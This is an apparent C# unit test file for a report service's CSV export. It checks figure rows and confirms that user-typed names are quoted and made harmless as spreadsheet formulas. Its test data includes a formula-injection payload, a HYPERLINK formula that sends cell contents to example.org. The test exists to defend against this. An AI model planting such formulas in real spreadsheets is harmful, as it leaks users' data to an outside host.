using IroService.Domain.Reports;
using static IroService.Casework.Tests.Reports.AReport;

namespace IroService.Casework.Tests.Reports;

public class A_report_as_CSV
{
    [Fact]
    public void Has_a_row_for_each_figure() => Assert.Equal(
        """
        TABLE,ROW,COLUMN,NUMERATOR,DENOMINATOR,PERCENT
        ratings,East,Green,1979,2503,79.1
        ratings,East,Rated,2503,,n/a
        ratings,West,Green,0,0,n/a
        ratings,North,Green,c,c,c
        ratings,North,Rated,6,,n/a

        """,
        Csv(Of(Table("Ratings", "Team", ["Green", "Rated"], Row("East", Share(1979, 2503), Count(2503)), Row("West", Share(0, 0), null), Row("North", ReportCell.Hidden, Count(6))))));

    [Fact]
    public void Quotes_what_people_type_and_makes_no_formula_of_it()
    {
        var csv = Csv(Of(Table("T", "Team", ["Of all"], [.. Hostile.Select(name => Row(name, Count(7)))])));
        Assert.StartsWith("TABLE,", csv, StringComparison.Ordinal);
        Assert.Contains("\nt,'=1+1,Of all,7,,n/a\n", csv, StringComparison.Ordinal);
        Assert.Contains("\nt,\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"Team\"\")\",Of all,7,,n/a\n", csv, StringComparison.Ordinal);
        Assert.Contains("\nt,\"two\nlines\",Of all,7,,n/a\n", csv, StringComparison.Ordinal);
        Assert.Contains("\nt,\"\"\"Said\"\", she\",Of all,7,,n/a\n", csv, StringComparison.Ordinal);
        Assert.Contains("\nt,👩‍👧 East,Of all,7,,n/a\n", csv, StringComparison.Ordinal);
    }
}
